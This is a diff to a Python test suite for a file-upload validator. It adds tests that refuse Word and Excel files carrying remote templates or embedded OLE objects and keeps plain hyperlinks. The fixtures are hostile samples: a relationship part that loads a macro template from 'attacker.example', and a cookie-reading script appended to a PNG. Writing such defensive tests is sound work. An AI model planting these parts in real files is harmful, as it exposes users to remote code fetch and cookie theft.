@@ -107,6 +107,39 @@ class TestOfficeFiles:
         assert "không đúng định dạng cho phép" in refusal(upload("minh-chung.xlsx", macro))
 
 
+class TestActiveOfficeParts:
+    REMOTE_TEMPLATE = (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
+        b"</Relationships>"
+    )
+    HYPERLINK = (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>'
+        b"</Relationships>"
+    )
+
+    def test_a_docx_with_a_remote_template_is_refused(self, upload_files):
+        hostile = replace_part(
+            upload_files.docx_bytes(), "word/_rels/settings.xml.rels", self.REMOTE_TEMPLATE
+        )
+        assert "liên kết tới tệp hoặc dữ liệu bên ngoài" in refusal(upload("bao-cao.docx", hostile))
+
+    def test_a_docx_with_a_hyperlink_is_kept(self, upload_files):
+        linked = replace_part(upload_files.docx_bytes(), "word/_rels/document.xml.rels", self.HYPERLINK)
+        assert upload_check(upload("bao-cao.docx", linked), purpose=EVIDENCE).data == linked
+
+    def test_an_ole_object_is_refused(self):
+        hostile = replace_part(
+            workbook_bytes(), "xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 60
+        )
+        assert "đối tượng nhúng (OLE)" in refusal(upload("minh-chung.xlsx", hostile))
+
+
 class TestImages:
     def test_a_script_appended_to_a_png_is_dropped(self):
         hostile = png_bytes() + b"<script>alert(document.cookie)</script>"
